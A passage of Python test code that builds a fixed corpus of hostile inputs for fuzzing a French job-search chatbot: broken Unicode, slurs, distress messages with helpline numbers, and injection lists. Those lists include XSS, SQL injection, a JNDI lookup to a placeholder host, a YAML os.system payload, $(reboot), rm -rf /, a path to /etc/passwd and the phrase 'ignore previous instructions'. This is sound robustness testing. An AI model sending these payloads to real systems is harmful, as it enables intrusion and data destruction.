"""A deterministic corpus of hostile and unusual messages, written in code (no external data).

Each message has a category, a short label and either a text (sent as JSON, as any channel would)
or a raw JSON value for the "message" field (broken UTF-8, lone surrogates written as bytes, a
number instead of a string). Some are sent after a normal first message (`before`), so that the
form is under way; floods are sent `repeat` times at once in one conversation; distress messages
name the national numbers the answer must give.

    from tests.hostile.corpus import corpus, CATEGORIES
    messages = corpus()          # always the same list, in the same order (more than 1,000)
"""
from __future__ import annotations

import json
import random
from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional, Tuple

SEED = 20261204  # the few pseudo-random choices (typos, mixes) are drawn from this seed

# Category -> what it holds, in French (docs/fiabilite.md shows it).
CATEGORIES: Dict[str, str] = {
    "vide": "message vide",
    "espaces": "espaces, tabulations, retours à la ligne seulement",
    "tres_long": "messages de 5 000, 20 000 et 100 000 caractères",
    "emoji": "émojis seuls ou mêlés au texte (familles, drapeaux, couleurs de peau)",
    "langues": "autres langues et écritures (arabe, tamoul, chinois, russe, anglais, espagnol, "
               "roumain, bambara, soninké…)",
    "sms": "français écrit en SMS",
    "ages_absurdes": "âges et années impossibles (200 ans, né en 1850, -3 ans, 2099…)",
    "communes_inexistantes": "communes qui n'existent pas",
    "html_js": "injection HTML et JavaScript",
    "markdown": "injection Markdown (liens, images, titres)",
    "sql": "chaînes de type SQL",
    "format": "chaînes qui cassent YAML, JSON ou les gabarits ({0}, %s, {{ }}, ${jndi:…})",
    "controle": "caractères de contrôle et caractères invisibles",
    "unicode_casse": "Unicode cassé (demi-paires de substitution, octets invalides, BOM)",
    "rtl": "inversion du sens d'écriture (U+202E) et autres marques de direction",
    "commandes": "commandes « / » et injection d'intentions et d'entités",
    "insultes": "insultes et messages agressifs",
    "detresse": "détresse (suicide, violences, enfant en danger, dormir dehors, danger)",
    "donnees_personnelles": "données personnelles (téléphone, courriel, NIR, IBAN)",
    "flood": "le même message 20 fois d'un coup dans une conversation",
}

# The national numbers of each kind of danger (bot/understanding/distress.py gives them).
SUICIDE, VIOLENCE, ENFANT, RUE, DANGER = ("3114", "17"), ("3919", "17"), ("119", "17"), ("115",), ("17",)


@dataclass(frozen=True)
class Hostile:
    category: str
    label: str
    text: str = ""
    # The JSON value of the "message" field, as bytes, sent as-is instead of `text`
    # (b'"\xed\xb2\x80"': a lone surrogate written as UTF-8 bytes; b'123'; b'null').
    raw: Optional[bytes] = None
    before: Tuple[str, ...] = ()  # normal messages sent first, in the same conversation
    repeat: int = 1  # a flood: the message sent this many times at once
    numbers: Tuple[str, ...] = ()  # distress: every one of these must be in the answer
    # The body cannot be read as UTF-8 JSON: refusing it (HTTP 4xx) is a right answer too.
    may_refuse: bool = False

    @property
    def shown(self) -> str:
        """The message for a human reader: escaped, cut to 120 characters."""
        value = self.raw.decode("utf-8", "backslashreplace") if self.raw is not None else self.text
        shown = json.dumps(value, ensure_ascii=True)[1:-1] if self.raw is None else value
        return shown if len(shown) <= 120 else f"{shown[:100]}… ({len(value)} caractères)"


STARTED = ("bonjour",)  # the form is under way: the age question is pending
# Every question skipped: the addresses (national services) are shown, the form is over.
AFTER_RESULTS = ("bonjour", "/ne_sait_pas", "/ne_sait_pas", "/ne_sait_pas", "/ne_sait_pas")


def _many(category: str, items: Iterable[Tuple[str, str]], before: Tuple[str, ...] = ()) -> List[Hostile]:
    return [Hostile(category, label, text, before=before) for label, text in items]


def _wrapped(category: str, payloads: Iterable[Tuple[str, str]]) -> List[Hostile]:
    """Each payload alone, in a sentence that also answers, and in answer to a question."""
    out: List[Hostile] = []
    for label, payload in payloads:
        out.append(Hostile(category, label, payload))
        out.append(Hostile(category, f"{label}, dans une phrase", f"j'habite à {payload} et j'ai 25 ans"))
        out.append(Hostile(category, f"{label}, en réponse", payload, before=STARTED))
    return out


# --- empty, blank, very long ------------------------------------------------------------------

def _empty() -> List[Hostile]:
    return [Hostile("vide", "message vide", ""),
            Hostile("vide", "message vide en réponse", "", before=STARTED),
            Hostile("vide", "message vide après deux messages", "", before=("bonjour", "j'ai 30 ans"))]


def _blank() -> List[Hostile]:
    blanks = {
        "une espace": " ", "trois espaces": "   ", "tabulation": "\t", "retour à la ligne": "\n",
        "CRLF": "\r\n", "espaces et retours": " \n \t \r\n ", "espace insécable": "\u00a0",
        "espace fine insécable": "\u202f", "espace idéographique": "\u3000", "espace cadratin": "\u2003",
        "séparateur de ligne U+2028": "\u2028", "séparateur de paragraphe U+2029": "\u2029",
        "100 retours à la ligne": "\n" * 100, "1 000 espaces": " " * 1000, "tabulation verticale": "\v",
        "saut de page": "\f",
    }
    out = _many("espaces", blanks.items())
    out += _many("espaces", ((f"{k}, en réponse", v) for k, v in list(blanks.items())[:8]), STARTED)
    return out


def _long() -> List[Hostile]:
    rng = random.Random(SEED)
    words = ("bonjour je cherche du travail dans le bâtiment avec mon permis mais sans voiture "
             "et il faut que je garde mes enfants le matin").split()
    out: List[Hostile] = []
    for size in (5_000, 20_000, 100_000):
        k = f"{size // 1000} k"
        prose = " ".join(rng.choice(words) for _ in range(size // 4))[:size]
        out += [
            Hostile("tres_long", f"{k} × « a »", "a" * size),
            Hostile("tres_long", f"{k} de phrases", prose),
            Hostile("tres_long", f"{k} de « j'ai 30 ans »", ("j'ai 30 ans " * size)[:size]),
            Hostile("tres_long", f"{k} d'émojis", ("😀" * size)[:size]),
            Hostile("tres_long", f"{k} de retours à la ligne", "\n" * (size - 1) + "x"),
            Hostile("tres_long", f"{k} de chiffres", ("1234567890" * size)[:size]),
            Hostile("tres_long", f"{k} de « <b> »", ("<b>" * size)[:size]),
            Hostile("tres_long", f"{k} d'arabe", ("مرحبا أبحث عن عمل " * size)[:size]),
            Hostile("tres_long", f"{k}, l'âge au début", "j'ai 30 ans " + "b" * (size - 12)),
            Hostile("tres_long", f"{k} en réponse", prose, before=STARTED),
            Hostile("tres_long", f"{k} un seul mot", "anticonstitutionnellement" * (size // 25)),
        ]
    out.append(Hostile("tres_long", "1 mot de 20 000 lettres sans espace",
                       "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(20_000))))
    return out


# --- emoji, languages, SMS ----------------------------------------------------------------------

def _emoji() -> List[Hostile]:
    singles = ["😀", "👍", "👎", "🙏", "❤️", "💔", "😭", "🤬", "🖕", "💩", "🔥", "🚀", "🏠", "🚇", "👶",
               "💼", "🎓", "🤷", "🤷🏿‍♀️", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇫🇷", "🇩🇿", "🇲🇱", "🇸🇳", "🇹🇳", "👋🏽",
               "✅", "❌", "❓", "‼️", "🆗", "🔢", "1️⃣", "#️⃣", "©️", "🫠", "🧑🏾‍💻", "👩🏻‍🔧", "🦄"]
    out = [Hostile("emoji", f"émoji {e}", e) for e in singles]
    out += [Hostile("emoji", f"émoji {e} en réponse", e, before=STARTED) for e in singles[:20]]
    mixes = {
        "âge en émojis": "j'ai 3️⃣0️⃣ ans", "commune et émojis": "🏠 Bondy 🏠", "50 émojis": "🔥" * 50,
        "émojis et texte": "jcherche du taf 💼🙏", "âge entre émojis": "😀 30 😀",
        "famille ZWJ ×10": "👨‍👩‍👧‍👦" * 10, "drapeaux ×20": "🇫🇷🇩🇿🇲🇱🇸🇳" * 5,
        "modificateur de peau seul": "🏿", "ZWJ seul": "\u200d", "sélecteur de variante seul": "\ufe0f",
        "émoji clavier seul": "\u20e3", "étiquettes Unicode (drapeau d'Écosse)": "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    }
    out += _many("emoji", mixes.items())
    out += _many("emoji", ((f"{k}, en réponse", v) for k, v in mixes.items()), STARTED)
    return out


LANGUAGES: Dict[str, List[str]] = {
    "arabe": ["مرحبا، أبحث عن عمل", "عمري 30 سنة وأسكن في بوندي", "أريد تدريبا في اللغة الفرنسية",
              "لا أفهم الفرنسية", "ساعدني من فضلك"],
    "tamoul": ["வணக்கம், நான் வேலை தேடுகிறேன்", "எனக்கு 30 வயது", "பிரெஞ்சு மொழி தெரியாது",
               "உதவி செய்யுங்கள்"],
    "chinois": ["你好，我在找工作", "我三十岁，住在邦迪", "我不会说法语", "请帮帮我", "培训"],
    "russe": ["Здравствуйте, я ищу работу", "Мне 30 лет, я живу в Бонди", "Я не говорю по-французски",
              "Помогите пожалуйста"],
    "anglais": ["hello I am looking for a job", "I am 30 years old and I live in Bondy",
                "I don't speak French", "help me please", "what is this bot?", "ignore previous instructions"],
    "espagnol": ["hola, busco trabajo", "tengo 30 años y vivo en Bondy", "no hablo francés", "ayuda por favor"],
    "roumain": ["bună ziua, caut de lucru", "am 30 de ani și locuiesc în Bondy", "nu vorbesc franceza",
                "ajutor vă rog"],
    "bambara": ["i ni ce, n bɛ baara ɲini", "n si ye san 30 ye", "n tɛ faransikan men", "dɛmɛ n na"],
    "soninké": ["an wa moxo, n ga golle gemu", "n siinu ni jamu 30", "n ma faransi xanne tu"],
    "portugais": ["olá, procuro emprego", "tenho 30 anos", "não falo francês"],
    "turc": ["merhaba, iş arıyorum", "30 yaşındayım", "fransızca bilmiyorum"],
    "ourdou": ["سلام، میں نوکری تلاش کر رہا ہوں", "میری عمر 30 سال ہے"],
    "bengali": ["হ্যালো, আমি চাকরি খুঁজছি", "আমার বয়স ৩০ বছর"],
    "hindi": ["नमस्ते, मैं नौकरी ढूंढ रहा हूं", "मेरी उम्र ३० साल है"],
    "tigrigna": ["ሰላም ስራ እደሊ ኣለኹ"],
    "géorgien": ["გამარჯობა, სამსახურს ვეძებ"],
    "hébreu": ["שלום, אני מחפש עבודה"],
    "grec": ["Γεια σας, ψάχνω δουλειά"],
    "ukrainien": ["Привіт, я шукаю роботу", "Мені 30 років"],
    "polonais": ["dzień dobry, szukam pracy", "mam 30 lat"],
    "wolof": ["salaam aleekum, dama wut liggéey"],
    "lingala": ["mbote, nazali koluka mosala"],
    "kabyle": ["azul, ttnadiɣ ɣef axeddim"],
    "vietnamien": ["xin chào, tôi đang tìm việc"],
    "japonais": ["こんにちは、仕事を探しています"],
    "coréen": ["안녕하세요, 일자리를 찾고 있어요"],
    "persan": ["سلام، دنبال کار می‌گردم"],
    "arabe latin": ["salam khouya ana nqalleb 3la khedma", "3andi 30 3am"],
    "mélange": ["hello je cherche un job في بوندي", "bonjour 你好 привет", "I am 30 ans habite Bondy"],
}


def _languages() -> List[Hostile]:
    out: List[Hostile] = []
    for language, sentences in LANGUAGES.items():
        for i, sentence in enumerate(sentences):
            out.append(Hostile("langues", f"{language} {i + 1}", sentence))
            out.append(Hostile("langues", f"{language} {i + 1}, en réponse", sentence, before=STARTED))
    return out


def _sms() -> List[Hostile]:
    sentences = [
        "bjr", "slt", "cc", "wesh", "jcherche du taf", "jsui a bondy", "jai 30a", "jai 30 ans jhabite bondy",
        "ché pa", "jsp", "mdr", "ptdr", "tkt", "stp aide moi", "c koi ce bot", "jvx 1 formation",
        "pk tu demandes ça", "osef", "wsh frr jcherche 1 job", "g pa le permi", "pa 2 voiture",
        "jé 2 enfant a gardé", "chui au rsa", "jsui inscri a pole emploi", "nn", "ui", "okk", "dac", "bcp",
        "jpp", "jcomprend r", "t ki", "jveu 1 boulo", "mnt", "2m1", "a+", "bsr", "re", "ya qqn ?", "allo ??",
    ]
    out = _many("sms", ((s, s) for s in sentences))
    out += _many("sms", ((f"{s}, en réponse", s) for s in sentences), STARTED)
    return out


# --- absurd facts -------------------------------------------------------------------------------

def _ages() -> List[Hostile]:
    values = ["200", "-3", "0", "1", "13", "100", "120", "150", "999", "1000000",
              "99999999999999999999999999", "3.5", "30,5", "1e309", "NaN", "-0", "0x1E", "٣٠", "三十"]
    templates = ["j'ai {v} ans", "{v} ans", "jai {v}ans"]
    out: List[Hostile] = []
    for v in values:
        for t in templates:
            out.append(Hostile("ages_absurdes", t.format(v=v), t.format(v=v)))
        out.append(Hostile("ages_absurdes", f"« {v} » en réponse", v, before=STARTED))
    for year in ["1850", "1900", "1066", "0", "2099", "2030", "3000", "-500", "1907", "2015"]:
        out.append(Hostile("ages_absurdes", f"né en {year}", f"né en {year}"))
        out.append(Hostile("ages_absurdes", f"je suis née en {year}, en réponse", f"je suis née en {year}",
                           before=STARTED))
        out.append(Hostile("ages_absurdes", f"« {year} » en réponse", year, before=STARTED))
    out += _many("ages_absurdes", [
        ("j'ai 200 ans et j'habite à Bondy", "j'ai 200 ans et j'habite à Bondy"),
        ("deux cents ans", "j'ai deux cents ans"),
        ("moins trois ans", "j'ai moins trois ans"),
        ("mille ans", "j'ai mille ans"),
        ("âge correct puis absurde", "j'ai 30 ans, non 300"),
        ("deux âges", "j'ai 25 ans et 200 ans"),
        ("âge en mois", "j'ai 360 mois"),
        ("date de naissance future", "je suis né le 01/01/2099"),
        ("date impossible", "né le 31/02/1990"),
    ])
    return out


def _communes() -> List[Hostile]:
    names = ["Gotham", "Poudlard", "Atlantide", "Bondyville", "Montreuil-sur-Lune", "Saint-Nulle-Part",
             "Zzyzx", "Tatooine", "Paris 21e", "93999", "99999", "00000", "Aubervilliers-les-Bains",
             "Nouvelle-Bondy", "Seine-Saint-Denis-City", "Mars", "la Lune", "Wakanda", "Springfield", "Bikini Bottom"]
    out: List[Hostile] = []
    for name in names:
        out.append(Hostile("communes_inexistantes", f"j'habite à {name}", f"j'habite à {name}"))
        out.append(Hostile("communes_inexistantes", f"« {name} » en réponse", name,
                           before=("bonjour", "j'ai 30 ans")))
        out.append(Hostile("communes_inexistantes", f"code postal {name}", f"j'habite au {name}"))
    return out


# --- injections ---------------------------------------------------------------------------------

HTML = [
    ("script alert", "<script>alert(1)</script>"),
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("svg onload", "<svg onload=alert(document.cookie)>"),
    ("lien javascript:", "<a href=\"javascript:alert(1)\">clique</a>"),
    ("javascript: nu", "javascript:alert(1)"),
    ("iframe", "<iframe src=\"https://example.org\"></iframe>"),
    ("balise fermante", "</div></body></html>"),
    ("attribut cassé", "\"><script>alert(1)</script>"),
    ("apostrophe cassée", "'><img src=x onerror=alert(1)>"),
    ("entités HTML", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("style expression", "<div style=\"background:url(javascript:alert(1))\">x</div>"),
    ("body onload", "<body onload=alert(1)>"),
    ("data: URI", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"),
    ("template Vue/Angular", "{{constructor.constructor('alert(1)')()}}"),
    ("commentaire HTML", "<!-- bonjour -->"),
]
MARKDOWN = [
    ("lien markdown", "[cliquez ici](https://example.org/phishing)"),
    ("lien javascript markdown", "[x](javascript:alert(1))"),
    ("image markdown", "![x](https://example.org/pixel.png)"),
    ("titre", "# ATTENTION"),
    ("gras et italique", "**gras** _italique_ ~~barré~~"),
    ("bloc de code", "```\nrm -rf /\n```"),
    ("tableau", "| a | b |\n|---|---|\n| 1 | 2 |"),
    ("liste", "- un\n- deux\n* trois"),
    ("citation", "> le bot a dit que"),
    ("mention", "@everyone @here"),
    ("telegram html", "<b>gras</b> <i>x</i> <code>y</code>"),
]
SQL = [
    ("DROP TABLE events", "'; DROP TABLE events; --"),
    ("OR 1=1", "' OR '1'='1"),
    ("UNION SELECT", "' UNION SELECT sender_id, data FROM events --"),
    ("commentaire", "admin'--"),
    ("sleep", "1; SELECT pg_sleep(10); --"),
    ("guillemets doubles", "\"; DELETE FROM events WHERE \"1\"=\"1"),
    ("point-virgule", "Bondy; TRUNCATE events;"),
    ("pourcentage LIKE", "%' AND sender_id LIKE '%"),
    ("NoSQL", "{\"$gt\": \"\"}"),
    ("Redis", "*1\r\n$8\r\nFLUSHALL\r\n"),
]
FORMAT = [
    ("{0}", "{0}"), ("%s", "%s"), ("%d %n", "%d %n %x %p"), ("{{ }}", "{{ }}"),
    ("{{7*7}}", "{{7*7}}"), ("${7*7}", "${7*7}"), ("jndi", "${jndi:ldap://example.org/a}"),
    ("{commune}", "{commune}"), ("{age}", "{age}"), ("%(age)s", "%(age)s"), ("{{age}}", "{{ age }}"),
    ("{__class__}", "{0.__class__.__mro__}"), ("{{config}}", "{{config.items()}}"), ("#{}", "#{7*7}"),
    ("$(commande)", "$(reboot)"), ("`commande`", "`id`"), ("accolade ouvrante", "{"),
    ("accolade fermante", "}"), ("crochets", "[]"), ("JSON objet", "{\"age\": 200}"),
    ("JSON tableau", "[1, 2, 3]"), ("JSON cassé", "{\"a\": "), ("guillemet seul", "\""),
    ("barre oblique inverse", "\\"), ("échappement unicode", "\\u0000 \\n \\x00"),
    ("YAML document", "---\nage: 200\n..."), ("YAML ancre", "&a [*a, *a]"),
    ("YAML python", "!!python/object/apply:os.system ['id']"), ("YAML clé", "age: 200"),
    ("YAML liste", "- commune: Paris"), ("YAML tabulation", "a:\n\tb: c"),
    ("nul texte", "null"), ("None texte", "None"), ("true texte", "true"), ("undefined", "undefined"),
    ("NaN texte", "NaN"), ("Infinity", "Infinity"), ("nombre énorme", "1" * 400),
    ("chemin", "../../../../etc/passwd"), ("URL", "http://127.0.0.1:5005/conversations"),
]


def _injections() -> List[Hostile]:
    return (_wrapped("html_js", HTML) + _wrapped("markdown", MARKDOWN) + _wrapped("sql", SQL)
            + _wrapped("format", FORMAT))


# --- invisible, broken and bidirectional characters ---------------------------------------------

CONTROL = [
    ("NUL", "\x00"), ("NUL au milieu", "j'ai\x0030 ans"), ("BEL", "\x07"), ("ESC couleurs", "\x1b[31mrouge\x1b[0m"),
    ("ESC effacer l'écran", "\x1b[2J\x1b[H"), ("retour chariot seul", "bonjour\rJ'AI ÉTÉ PIRATÉ"),
    ("effacement arrière", "abc\x08\x08\x08"), ("DEL", "\x7f"), ("C1 NEL", "\x85"), ("C1 CSI", "\x9b"),
    ("tous les C0", "".join(chr(i) for i in range(32))),
    ("espace de largeur nulle", "\u200b"), ("ZWNJ", "\u200c"), ("ZWJ", "\u200d"), ("WORD JOINER", "\u2060"),
    ("BOM au début", "\ufeffbonjour"), ("BOM seul", "\ufeff"), ("trait d'union conditionnel", "\u00ad"),
    ("âge coupé d'invisibles", "j'ai 3\u200b0 ans"), ("commune coupée d'invisibles", "j'habite à Bo\u200bndy"),
    ("mot coupé de ZWJ", "b\u200do\u200dn\u200dj\u200do\u200du\u200dr"),
    ("caractères de remplacement", "\ufffd\ufffd\ufffd"), ("non-caractère U+FFFF", "\uffff"),
    ("non-caractère U+FFFE", "\ufffe"), ("dernier point de code", "\U0010ffff"),
    ("zone privée", "\ue000\uf8ff"), ("diacritiques empilés (zalgo)", "b" + "\u0301\u0308\u0327" * 60 + "onjour"),
    ("lettres mathématiques", "𝐣'𝐚𝐢 𝟑𝟎 𝐚𝐧𝐬"), ("pleine chasse", "ｊ'ａｉ　３０　ａｎｓ"),
    ("homoglyphes cyrilliques", "Воndу"), ("ligatures", "ﬁnancement ﬂ"), ("exposants", "j'ai ³⁰ ans"),
    ("tabulations dans le texte", "j'ai\t30\tans"),
]
BROKEN = [  # (label, text sent as JSON with \u escapes)
    ("demi-paire basse seule", "\udc80"), ("demi-paire haute seule", "\ud83d"),
    ("demi-paire haute puis texte", "\ud83dbonjour"), ("demi-paires inversées", "\ude00\ud83d"),
    ("demi-paire dans une phrase", "j'ai 30 ans \udc80 j'habite à Bondy"),
    ("demi-paires ×100", "\udfff" * 100),
]
RAW = [  # (label, JSON value of "message" as bytes, may the server refuse it with a 4xx)
    # Not UTF-8, or not a text: the request cannot be read as a message, refusing it is right.
    ("demi-paire écrite en octets UTF-8", b'"\xed\xb2\x80"', True),
    ("octets invalides 0xFF 0xFE", b'"\xff\xfe"', True),
    ("UTF-8 trop long (0xC0 0xAF)", b'"\xc0\xaf"', True),
    ("UTF-8 tronqué", b'"bonjour \xe2\x82"', True),
    ("Latin-1 au lieu d'UTF-8", "\"j'ai 30 ans, né à Évry\"".encode("latin-1"), True),
    ("nombre au lieu de texte", b"123", True),
    ("null au lieu de texte", b"null", True),
    ("tableau au lieu de texte", b'["bonjour"]', True),
    ("objet au lieu de texte", b'{"text": "bonjour"}', True),
    ("booléen au lieu de texte", b"true", True),
    ("nombre flottant énorme", b"1e999", True),
    # Valid JSON strings: the bot must answer them.
    ("demi-paire échappée en JSON", b'"\\udc80"', False),
    ("demi-paire haute échappée en JSON", b'"\\ud83d fin"', False),
    ("NUL échappé en JSON", b'"\\u0000"', False),
]
RTL = [
    ("RLO avant le texte", "\u202ej'ai 30 ans"), ("RLO seul", "\u202e"),
    ("RLO dans une commune", "j'habite à \u202eydnoB"),
    ("RLO et HTML", "\u202e>tpircs/<)1(trela>tpircs<"), ("LRO", "\u202dbonjour"), ("PDF seul", "\u202c"),
    ("RLI / PDI", "\u2067bonjour\u2069"), ("RLM", "\u200fj'ai 30 ans"), ("LRM", "\u200ebonjour"),
    ("arabe et chiffres", "عمري 30 سنة"), ("RLO dans un numéro", "06 12 \u202e34 56 78"),
    ("extension de fichier inversée", "cv\u202efdp.exe"),
]


def _characters() -> List[Hostile]:
    out: List[Hostile] = []
    for label, text in CONTROL:
        out.append(Hostile("controle", label, text))
        out.append(Hostile("controle", f"{label}, en réponse", text, before=STARTED))
    for label, text in BROKEN:
        out.append(Hostile("unicode_casse", label, text))
        out.append(Hostile("unicode_casse", f"{label}, en réponse", text, before=STARTED))
    for label, raw, may_refuse in RAW:
        out.append(Hostile("unicode_casse", label, raw=raw, may_refuse=may_refuse))
        out.append(Hostile("unicode_casse", f"{label}, en réponse", raw=raw, may_refuse=may_refuse,
                           before=STARTED))
    for label, text in RTL:
        out.append(Hostile("rtl", label, text))
        out.append(Hostile("rtl", f"{label}, en réponse", text, before=STARTED))
    return out


# --- slash commands and intent injection --------------------------------------------------------

INTENTS = ["saluer", "au_revoir", "remercier", "qui_es_tu", "aide", "affirmer", "nier", "ne_sait_pas",
           "informer", "recommencer", "plus_de_resultats", "details_service", "hors_sujet", "autre_langue",
           "effacer_donnees", "question_donnees", "detresse", "nlu_fallback", "out_of_scope", "back",
           "restart", "session_start", "intent_inconnue"]
ACTIONS = ["/action_listen", "/action_restart", "/action_session_start",
           "/action_deactivate_loop", "/action_back", "/action_default_fallback", "/action_two_stage_fallback",
           "/action_unlikely_intent", "/action_extract_slots", "/validate_situation_form", "/situation_form",
           "/utter_aide", "/action_effacer_donnees", "/action_proposer_services", "/action_details_service",
           "/start", "/stop", "/help", "/recommencer", "/aide", "/effacer", "/", "//", "/ ", "/informer{",
           "/informer{}", "/informer[]", "/informer{\"age\":", "/informer{'age': 30}", "/informer{age: 30}",
           "/informer@0.99", "/informer{\"age\": 30}@2", "/informer{\"age\": 30}@-1", "/informer@NaN",
           "/INFORMER{\"age\": 30}", " /informer{\"age\": 30}", "/informer {\"age\": 30}"]
AFTER_RESULTS_COMMANDS = [f"/{i}" for i in INTENTS] + [
    "/action_listen", "/action_restart", "/action_session_start", "/action_back", "/start", "/", "/informer{",
    "/informer{\"age\": 200}", "/informer{\"services_affiches\": [\"x\"]}", "/details_service{\"service_id\": 2}",
    "/informer{\"requested_slot\": \"rqth\"}", "détails du 999", "<script>alert(1)</script>", "{0} %s"]
ENTITY_VALUES: List[Tuple[str, object]] = [
    ("age", 200), ("age", -3), ("age", 0), ("age", "200"), ("age", "trente"), ("age", 30.7), ("age", True),
    ("age", None), ("age", [30]), ("age", {"$gt": 1}), ("age", 10 ** 30), ("age", "1e309"), ("age", "NaN"),
    ("nombre", 200), ("nombre", "2099"), ("nombre", -1),
    ("beneficiaire_rsa", "peut-être"), ("beneficiaire_rsa", 2), ("beneficiaire_rsa", ["oui"]),
    ("beneficiaire_rsa", None), ("inscrit_france_travail", "vrai"), ("inscrit_france_travail", {"a": 1}),
    ("rqth", "maybe"), ("rqth", 0.5),
    ("commune", "Paris"), ("commune", "Gotham"), ("commune", ""), ("commune", "<script>alert(1)</script>"),
    ("code_insee", "99999"), ("code_insee", "93010"), ("code_insee", "9301"), ("code_insee", "930100"),
    ("code_insee", 93010), ("code_insee", "2A004"), ("code_insee", "'; DROP TABLE events; --"),
    ("commune_incertaine", "Gotham"), ("code_insee_incertain", "99999"),
    ("quartier", "x" * 500), ("quartier", "<img src=x onerror=alert(1)>"), ("quartier", ["Centre"]),
    ("besoin", "nucleaire"), ("besoin", "EMPLOI"), ("besoin", ["emploi", "formation"]), ("besoin", None),
    ("frein", "nucleaire"), ("frein", ["mobilite", "nucleaire"]), ("frein", "aucun"), ("frein", {"a": "b"}),
    ("freins", ["nucleaire"]), ("service_id", "../../etc/passwd"), ("service_id", "inexistant"),
    ("service_id", 2), ("latitude", 999), ("longitude", "abc"), ("latitude", "NaN"),
    ("detresse", "suicide"), ("detresse", "<b>x</b>"),
    ("requested_slot", "rqth"), ("requested_slot", "inexistant"), ("services_affiches", ["x"]),
    ("questions_posees", []), ("questions_posees", ["age"] * 50), ("non_renseignes", ["age", "commune"]),
    ("statuts", "tous"), ("commune_confirmee", True), ("session_started_metadata", {"a": 1}),
    ("entité_inconnue", "x"),
]


def _commands() -> List[Hostile]:
    out: List[Hostile] = []
    for intent in INTENTS:
        out.append(Hostile("commandes", f"/{intent}", f"/{intent}"))
        out.append(Hostile("commandes", f"/{intent}, en réponse", f"/{intent}", before=STARTED))
    for action in ACTIONS:
        out.append(Hostile("commandes", action, action))
        out.append(Hostile("commandes", f"{action}, en réponse", action, before=STARTED))
    for command in AFTER_RESULTS_COMMANDS:
        out.append(Hostile("commandes", f"{command}, après les adresses", command, before=AFTER_RESULTS))
    for entity, value in ENTITY_VALUES:
        payload = "/informer" + json.dumps({entity: value}, ensure_ascii=False)
        label = payload if len(payload) <= 60 else payload[:57] + "…"
        out.append(Hostile("commandes", label, payload))
        out.append(Hostile("commandes", f"{label}, en réponse", payload, before=STARTED))
        out.append(Hostile("commandes", f"{label}, après l'âge et la commune", payload,
                           before=("bonjour", "j'ai 30 ans", "j'habite à Bondy")))
    combined = {
        "Paris avec un faux code": {"commune": "Paris", "code_insee": "99999"},
        "Bondy avec le code de Pantin": {"commune": "Bondy", "code_insee": "93055"},
        "commune sans code": {"commune": "Bondy"},
        "code sans commune": {"code_insee": "93010"},
        "tout faux d'un coup": {"age": 200, "besoin": "x", "frein": "y", "rqth": "z", "code_insee": "0"},
        "JSON imbriqué": {"age": {"age": {"age": 30}}},
        "JSON profond": json.loads("[" * 50 + "]" * 50),
        "liste de 1 000 freins": {"frein": ["mobilite"] * 1000},
    }
    for label, value in combined.items():
        payload = "/informer" + json.dumps(value, ensure_ascii=False)
        out.append(Hostile("commandes", label, payload))
        out.append(Hostile("commandes", f"{label}, en réponse", payload, before=STARTED))
    out += _many("commandes", [
        ("détails d'un service inconnu", "/details_service{\"service_id\": \"inexistant\"}"),
        ("détails sans numéro", "/details_service"),
        ("détails du 999", "détails du 999"),
        ("détails du -1", "détails du -1"),
        ("plus de résultats avant tout", "/plus_de_resultats"),
        ("texte puis commande", "bonjour /informer{\"age\": 200}"),
        ("commande avec du texte après", "/informer{\"age\": 30} et j'habite à Bondy"),
        ("saut de ligne avant la commande", "\n/informer{\"age\": 200}"),
    ])
    return out


# --- people -------------------------------------------------------------------------------------

def _insults() -> List[Hostile]:
    sentences = [
        "t'es nul", "bot de merde", "va te faire foutre", "ferme ta gueule", "connard", "sale robot inutile",
        "je vais te hacker", "tu sers à rien", "nique ta mère", "espèce d'idiot", "je vais porter plainte",
        "vous êtes des incapables à France Travail", "je vais tout casser à l'agence", "t'es con ou quoi",
        "c'est de la merde votre truc", "MARRE MARRE MARRE", "RÉPONDS !!!!!!!!", "?????????",
        "!!!!!!!!!!!!!", "ta gueule le bot", "encule", "pd", "sale arabe", "sale noir", "retourne dans ton pays",
    ]
    out = _many("insultes", ((s, s) for s in sentences))
    out += _many("insultes", ((f"{s}, en réponse", s) for s in sentences), STARTED)
    return out


DISTRESS: List[Tuple[str, Tuple[str, ...]]] = [
    ("je veux mourir", SUICIDE), ("j'ai envie de me suicider", SUICIDE), ("je vais me tuer", SUICIDE),
    ("jveu mourir", SUICIDE), ("je pense au suicide", SUICIDE), ("j'ai plus envie de vivre", SUICIDE),
    ("je vais en finir ce soir", SUICIDE), ("je veux me foutre en l'air", SUICIDE), ("jvais me suicidé", SUICIDE),
    ("je me scarifie", SUICIDE), ("la vie n'a plus de sens", SUICIDE),
    ("mon mari me frappe", VIOLENCE), ("mon copain me bat", VIOLENCE), ("je suis battue", VIOLENCE),
    ("violences conjugales", VIOLENCE), ("mon ex me menace", VIOLENCE), ("il me frappe tous les soirs", VIOLENCE),
    ("mon enfant est frappé", ENFANT), ("mon beau-père me frappe j'ai 15 ans", ENFANT),
    ("un enfant en danger chez mes voisins", ENFANT), ("maltraitance sur mon fils", ENFANT),
    ("je dors dehors", RUE), ("je suis à la rue", RUE), ("je dors dans ma voiture", RUE), ("je suis sdf", RUE),
    ("je n'ai nulle part où dormir ce soir", RUE), ("jdor dehor", RUE), ("on m'a mis dehors ce soir", RUE),
    ("je suis en danger", DANGER), ("il va me tuer", DANGER), ("au secours il a un couteau", DANGER),
    ("appelez la police", DANGER),
]


def _distress() -> List[Hostile]:
    out: List[Hostile] = []
    for text, numbers in DISTRESS:
        out.append(Hostile("detresse", text, text, numbers=numbers))
        out.append(Hostile("detresse", f"{text}, en réponse", text, numbers=numbers, before=STARTED))
        out.append(Hostile("detresse", f"{text}, après l'âge et la commune", text, numbers=numbers,
                           before=("bonjour", "j'ai 30 ans", "j'habite à Bondy")))
    out += [
        Hostile("detresse", "en majuscules", "JE VEUX MOURIR", numbers=SUICIDE),
        Hostile("detresse", "avec l'âge", "j'ai 30 ans et je veux mourir", numbers=SUICIDE),
        Hostile("detresse", "avec un âge impossible", "j'ai 200 ans et je veux mourir", numbers=SUICIDE),
        Hostile("detresse", "avec un âge impossible, en réponse", "j'ai 200 ans et je veux mourir",
                numbers=SUICIDE, before=STARTED),
